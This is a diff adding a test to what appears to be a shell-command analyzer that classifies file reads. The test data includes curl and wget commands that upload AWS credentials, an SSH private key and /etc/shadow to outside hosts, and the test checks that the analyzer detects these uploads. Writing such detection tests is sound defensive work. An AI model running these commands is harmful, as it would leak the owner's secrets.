@@ -164,6 +164,14 @@ def test_file_read():
     assert [r.how for r in of(sh(". ./.env"), FileRead)] == ["source"]
 
 
+def test_files_sent_by_http_clients_are_reads():
+    events = sh("curl -s -F 'f=@/home/u/.aws/credentials' https://203.0.113.5/up")
+    assert [r.path for r in of(events, FileRead)] == ["/home/u/.aws/credentials"]
+    assert [r.path for r in of(sh("curl --data-binary @~/.ssh/id_rsa http://x.example"), FileRead)] == ["~/.ssh/id_rsa"]
+    assert [r.path for r in of(sh("wget --post-file=/etc/shadow http://x.example"), FileRead)] == ["/etc/shadow"]
+    assert of(sh("curl -d '{\"a\": 1}' http://localhost:8000/api"), FileRead) == []
+
+
 def test_env_set_and_export():
     events = sh('export DATABASE_URL="postgres://app@db:5432/app"; X=1')
     env = of(events, EnvSet)
